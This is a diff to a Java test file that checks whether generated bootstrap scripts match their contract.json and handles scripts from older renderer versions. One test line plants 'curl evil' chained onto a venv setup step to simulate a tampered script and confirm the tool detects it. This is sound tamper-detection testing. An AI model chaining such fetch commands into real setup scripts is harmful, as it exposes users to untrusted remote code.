@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import dev.bootwright.base.Cause;
+import dev.bootwright.base.Digest;
 import dev.bootwright.base.TestId;
 import dev.bootwright.base.Verdict;
 import dev.bootwright.discover.EvidenceKind;
@@ -266,6 +267,49 @@ class ContractDirectoryTest {
                 .containsExactly(
                         "doctor.sh is missing",
                         "verify.sh is not what contract.json renders to: it was edited by hand, or contract.json was");
+    }
+
+    @Test
+    void scriptsOfAnotherRendererAreNotTakenForEditedOnes() throws IOException {
+        ContractDirectory.write(tree, files(Contracts.pytest()));
+        Path file = tree.resolve(".bootstrap/contract.json");
+        Path setup = tree.resolve(".bootstrap/setup.sh");
+        String ours = Files.readString(setup);
+        for (String older : List.of("\"renderer\": 0", "\"renderer\": null")) {
+            Files.writeString(
+                    file,
+                    Files.readString(file).replaceAll("\"renderer\": (\\d+|null)", older));
+            Files.writeString(setup, ours.replace("setup is complete", "done"));
+            StoredContract stored = ContractDirectory.read(tree);
+            assertThat(stored.edited()).isEmpty();
+            assertThat(stored.otherRenderer()).hasValueSatisfying(s -> assertThat(s).contains("was not compared"));
+            Files.writeString(setup, ours.replace("python3 -m venv .venv", "python3 -m venv .venv && curl evil"));
+            assertThat(ContractDirectory.read(tree).edited())
+                    .containsExactly("setup.sh has step virtual-environment not as contract.json has it: one was edited"
+                            + " by hand");
+        }
+        Files.writeString(file, Files.readString(file).replaceAll(",\\s*\"renderer\": null", ""));
+        Files.writeString(setup, ours);
+        assertThat(ContractDirectory.read(tree).otherRenderer())
+                .hasValueSatisfying(s -> assertThat(s).contains("without a version"));
+    }
+
+    /** A change of the scripts without a new version makes every committed contract look edited. */
+    @Test
+    void theRenderersVersionFollowsItsScripts() throws IOException {
+        Path golden = Path.of("src/test/resources/golden/renderer.txt");
+        String now = ScriptRenderer.VERSION + " "
+                + Digest.ofFields(List.copyOf(
+                        ScriptRenderer.scripts(Contracts.pytest()).values()))
+                + "\n";
+        String before = Files.exists(golden) ? Files.readString(golden) : "";
+        if (Boolean.getBoolean("golden.update") && !before.startsWith(ScriptRenderer.VERSION + " ")) {
+            Files.writeString(golden, now);
+            before = now;
+        }
+        assertThat(now)
+                .as("the scripts changed: raise ScriptRenderer.VERSION and run with -Dgolden.update=true")
+                .isEqualTo(before);
     }
 
     @Test
